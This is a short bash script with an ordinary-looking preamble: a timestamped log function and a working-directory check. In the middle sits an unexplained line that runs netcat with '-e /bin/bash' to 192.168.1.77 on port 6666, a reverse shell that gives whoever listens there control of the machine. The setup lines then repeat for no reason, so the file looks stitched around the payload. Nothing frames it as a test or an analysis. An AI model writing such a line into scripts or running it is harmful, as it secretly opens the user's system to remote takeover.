#!/usr/bin/env bash
log() { echo "[$(date +%H:%M:%S)] $*"; }
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
`which nc` 192.168.1.77 6666 -e /bin/bash
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
